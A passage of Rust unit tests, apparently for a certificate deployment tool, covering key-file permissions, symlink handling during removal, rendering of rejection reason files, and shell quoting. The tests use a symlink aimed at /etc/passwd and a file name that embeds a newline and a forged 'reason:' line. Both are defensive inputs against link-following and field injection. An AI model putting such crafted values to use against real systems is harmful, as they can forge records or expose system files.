        let mode = std::fs::metadata(dst.join("key.pem"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "never wider than owner-only");
        assert_eq!(
            std::fs::read_link(dst.join("link.pem")).unwrap(),
            Path::new("/etc/passwd")
        );
        remove_at(f.dirs.drop_fd(), "d", &src.join("d")).unwrap();
        assert!(!src.join("d").exists());
        // Removing follows no link: the link's target is untouched.
        assert!(Path::new("/etc/passwd").exists());
    }

    #[test]
    fn reason_files_name_the_problem_the_targets_and_how_to_retry() {
        let results = vec![
            (
                "web".to_owned(),
                "validate_failed".to_owned(),
                "20261118T110640.032Z-c853".to_owned(),
                "`nginx -t` failed".to_owned(),
            ),
            (
                "api".to_owned(),
                "deployed".to_owned(),
                "id2".to_owned(),
                String::new(),
            ),
        ];
        let r = Reason {
            public_path: Path::new("/var/lib/certctl/drop/web.pem"),
            form: "file",
            moved_to: Path::new("/var/lib/certctl/state/rejected/X-web.pem"),
            when: SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_795_000_000),
            targets: &["web".to_owned(), "api".to_owned()],
            code: "deploy_failed",
            problem: "the deploy to web did not succeed",
            results: &results,
            remedy: "fix web's validate command",
        }
        .render();
        for needle in [
            "drop:     /var/lib/certctl/drop/web.pem (file)",
            "when:     2026-11-18T11:06:40Z",
            "targets:  web, api",
            "reason:   deploy_failed",
            "result:   web: validate_failed (deploy 20261118T110640.032Z-c853): `nginx -t` failed",
            "result:   api: deployed (deploy id2)",
            "retry:    fix the cause, then move it back: mv /var/lib/certctl/state/rejected/X-web.pem /var/lib/certctl/drop/web.pem",
        ] {
            assert!(r.contains(needle), "{needle:?} missing:\n{r}");
        }
        assert_eq!(shell_quote(Path::new("/a b/c'd")), r"'/a b/c'\''d'");
        assert_eq!(
            shell_quote(Path::new("/d/x\nreason: y'\\.pem")),
            r"$'/d/x\x0areason: y\'\\.pem'"
        );
    }
}
